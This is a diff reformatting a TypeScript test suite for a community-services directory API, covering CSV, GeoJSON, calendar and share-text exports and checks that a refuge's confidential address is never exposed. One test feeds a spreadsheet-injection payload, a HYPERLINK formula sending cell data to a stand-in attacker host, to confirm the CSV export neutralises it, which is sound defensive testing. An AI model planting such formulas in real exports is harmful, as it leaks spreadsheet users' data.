@@ -18,22 +18,59 @@ beforeAll(async () => {
   await seedTaxonomy(t.db);
   organiser = await t.signIn('organiser');
   reader = await t.signIn('link_worker');
-  const contact = await t.db.selectFrom('users').select('id').where('organisationId', '=', organiser.organisationId).executeTakeFirstOrThrow();
-  await t.db.updateTable('organisations').set({ keyContactUserId: contact.id, email: 'hello@shed.example', phone: '020 7946 0000' }).where('id', '=', organiser.organisationId!).execute();
-  const make = async (body: Record<string, unknown>) => (await (await t.call('POST', '/api/v1/services', serviceBody(body), organiser)).json()) as ServiceView;
+  const contact = await t.db
+    .selectFrom('users')
+    .select('id')
+    .where('organisationId', '=', organiser.organisationId)
+    .executeTakeFirstOrThrow();
+  await t.db
+    .updateTable('organisations')
+    .set({ keyContactUserId: contact.id, email: 'hello@shed.example', phone: '020 7946 0000' })
+    .where('id', '=', organiser.organisationId!)
+    .execute();
+  const make = async (body: Record<string, unknown>) =>
+    (await (
+      await t.call('POST', '/api/v1/services', serviceBody(body), organiser)
+    ).json()) as ServiceView;
   shed = await make({
     name: 'Shed, "the" workshop',
     cost: { kind: 'low_cost', text: '£1 for tea' },
-    referralRoute: 'other', referralEmail: 'referrals@shed.example',
+    referralRoute: 'other',
+    referralEmail: 'referrals@shed.example',
     schedules: [
       { day: 2, start: '10:00', end: '12:00', locationIndex: 0, validFrom: '2026-07-01' },
-      { day: 4, start: '18:30', end: '20:00', frequency: 'fortnightly', locationIndex: 0, validFrom: '2026-07-01', validTo: '2026-12-31' },
-      { day: 6, start: '11:00', end: '13:00', frequency: 'monthly', locationIndex: 0, validFrom: '2026-07-01' },
+      {
+        day: 4,
+        start: '18:30',
+        end: '20:00',
+        frequency: 'fortnightly',
+        locationIndex: 0,
+        validFrom: '2026-07-01',
+        validTo: '2026-12-31',
+      },
+      {
+        day: 6,
+        start: '11:00',
+        end: '13:00',
+        frequency: 'monthly',
+        locationIndex: 0,
+        validFrom: '2026-07-01',
+      },
     ],
   });
   refuge = await make({
     name: 'Women’s safe space',
-    locations: [{ name: '1 Secret Street', address: '1 Secret Street', postcode: 'E1 6AN', lat: 51.52, lng: -0.07, confidential: true, district: 'Tower Hamlets' }],
+    locations: [
+      {
+        name: '1 Secret Street',
+        address: '1 Secret Street',
+        postcode: 'E1 6AN',
+        lat: 51.52,
+        lng: -0.07,
+        confidential: true,
+        district: 'Tower Hamlets',
+      },
+    ],
     schedules: [{ day: 1, start: '13:00', end: '15:00', locationIndex: 0 }],
   });
 });
@@ -48,29 +85,61 @@ describe('CSV export', () => {
     const rows = parse(text, { columns: true, bom: true }) as Record<string, string>[];
     expect(rows.map((r) => r.id).sort()).toEqual([shed.id, refuge.id].sort());
     const s = rows.find((r) => r.id === shed.id)!;
-    expect(s).toMatchObject({ name: 'Shed, "the" workshop', cost: 'low_cost', cost_text: '£1 for tea', referral_email: 'referrals@shed.example', postcode: 'E2 9PL', lat: '51.5316', stale: 'no' });
+    expect(s).toMatchObject({
+      name: 'Shed, "the" workshop',
+      cost: 'low_cost',
+      cost_text: '£1 for tea',
+      referral_email: 'referrals@shed.example',
+      postcode: 'E2 9PL',
+      lat: '51.5316',
+      stale: 'no',
+    });
     expect(Date.now() - Date.parse(s.last_verified_at!)).toBeLessThan(60_000);
-    expect(s.schedule).toBe('Tue 10:00–12:00; Thu 18:30–20:00 (fortnightly); Sat 11:00–13:00 (monthly)');
+    expect(s.schedule).toBe(
+      'Tue 10:00–12:00; Thu 18:30–20:00 (fortnightly); Sat 11:00–13:00 (monthly)',
+    );
     const r = rows.find((row) => row.id === refuge.id)!;
-    expect(r).toMatchObject({ locations: 'Confidential location (Tower Hamlets)', postcode: '', lat: '', lng: '' });
+    expect(r).toMatchObject({
+      locations: 'Confidential location (Tower Hamlets)',
+      postcode: '',
+      lat: '',
+      lng: '',
+    });
     expect(text).not.toContain('Secret Street');
     expect(text).not.toContain('E1 6AN');
   });
 
   it('neutralises spreadsheet formulas in every text cell and starts with a UTF-8 byte-order mark', async () => {
-    const hostile = (await (await t.call('POST', '/api/v1/services', serviceBody({
-      name: '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
-      summary: '+44 7700 900123 (call first)',
-      description: '@SUM(1+1)',
-      cost: { kind: 'low_cost', text: '-£2 off for members' },
-      locations: [{ name: '=1+1 Hall', address: '12 Old Ford Road', postcode: 'E2 9PL', lat: 51.5316, lng: -0.0517 }],
-    }), organiser)).json()) as ServiceView;
+    const hostile = (await (
+      await t.call(
+        'POST',
+        '/api/v1/services',
+        serviceBody({
+          name: '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
+          summary: '+44 7700 900123 (call first)',
+          description: '@SUM(1+1)',
+          cost: { kind: 'low_cost', text: '-£2 off for members' },
+          locations: [
+            {
+              name: '=1+1 Hall',
+              address: '12 Old Ford Road',
+              postcode: 'E2 9PL',
+              lat: 51.5316,
+              lng: -0.0517,
+            },
+          ],
+        }),
+        organiser,
+      )
+    ).json()) as ServiceView;
     try {
       const res = await t.call('GET', '/api/v1/services.csv', undefined, reader);
       const bytes = new Uint8Array(await res.arrayBuffer());
       expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
       const text = new TextDecoder().decode(bytes);
-      const row = (parse(text, { columns: true, bom: true }) as Record<string, string>[]).find((r) => r.id === hostile.id)!;
+      const row = (parse(text, { columns: true, bom: true }) as Record<string, string>[]).find(
+        (r) => r.id === hostile.id,
+      )!;
       expect(row.name).toBe(`'=HYPERLINK("https://evil.example/?x="&A1,"Click")`);
       expect(row.summary).toBe(`'+44 7700 900123 (call first)`);
       expect(row.cost_text).toBe(`'-£2 off for members`);
@@ -84,14 +153,19 @@ describe('CSV export', () => {
   });
 
   it('takes the list filters', async () => {
-    const rows = parse(await (await t.call('GET', '/api/v1/services.csv?q=safe', undefined, reader)).text(), { columns: true, bom: true }) as Record<string, string>[];
+    const rows = parse(
+      await (await t.call('GET', '/api/v1/services.csv?q=safe', undefined, reader)).text(),
+      { columns: true, bom: true },
+    ) as Record<string, string>[];
     expect(rows.map((r) => r.id)).toEqual([refuge.id]);
   });
 });
 
 describe('GeoJSON', () => {
   it('maps only non-confidential locations', async () => {
-    const fc = (await (await t.call('GET', '/api/v1/services.geojson', undefined, reader)).json()) as { features: { properties: { serviceId: string } }[] };
+    const fc = (await (
+      await t.call('GET', '/api/v1/services.geojson', undefined, reader)
+    ).json()) as { features: { properties: { serviceId: string } }[] };
     expect(fc.features.map((f) => f.properties.serviceId)).toEqual([shed.id]);
   });
 });
@@ -140,14 +214,27 @@ describe('iCalendar', () => {
   });
 
   it('never puts a confidential address in a calendar', async () => {
-    const text = await (await t.call('GET', `/api/v1/services/${refuge.id}/calendar.ics`, undefined, reader)).text();
-    const [event] = new ICAL.Component(ICAL.parse(text)).getAllSubcomponents('vevent').map((v) => new ICAL.Event(v));
+    const text = await (
+      await t.call('GET', `/api/v1/services/${refuge.id}/calendar.ics`, undefined, reader)
+    ).text();
+    const [event] = new ICAL.Component(ICAL.parse(text))
+      .getAllSubcomponents('vevent')
+      .map((v) => new ICAL.Event(v));
     expect(event!.location).toBe('Confidential location (Tower Hamlets)');
     expect(text).not.toContain('Secret');
   });
 
   it('404 for an unknown service', async () => {
-    expect((await t.call('GET', '/api/v1/services/00000000-0000-4000-8000-000000000000/calendar.ics', undefined, reader)).status).toBe(404);
+    expect(
+      (
+        await t.call(
+          'GET',
+          '/api/v1/services/00000000-0000-4000-8000-000000000000/calendar.ics',
+          undefined,
+          reader,
+        )
+      ).status,
+    ).toBe(404);
   });
 });
 
@@ -158,7 +245,9 @@ describe('copy for a message', () => {
     const text = await res.text();
     expect(text.length).toBeLessThanOrEqual(SHARE_MAX_CHARS);
     expect(text).toContain('Shed, "the" workshop');
-    expect(text).toContain('When: Tue 10:00–12:00; Thu 18:30–20:00 (fortnightly); Sat 11:00–13:00 (monthly)');
+    expect(text).toContain(
+      'When: Tue 10:00–12:00; Thu 18:30–20:00 (fortnightly); Sat 11:00–13:00 (monthly)',
+    );
     expect(text).toContain("Where: St Margaret's Hall, 12 Old Ford Road, London, E2 9PL");
     expect(text).toContain('Cost: Low cost: £1 for tea');
     expect(text).toContain('How to refer: Referral — referrals@shed.example');
@@ -167,7 +256,9 @@ describe('copy for a message', () => {
   });
 
   it('shows a refuge by district only', async () => {
-    const text = await (await t.call('GET', `/api/v1/services/${refuge.id}/share.txt`, undefined, reader)).text();
+    const text = await (
+      await t.call('GET', `/api/v1/services/${refuge.id}/share.txt`, undefined, reader)
+    ).text();
     expect(text).toContain('Where: Confidential location (Tower Hamlets)');
     expect(text).not.toContain('Secret');
   });
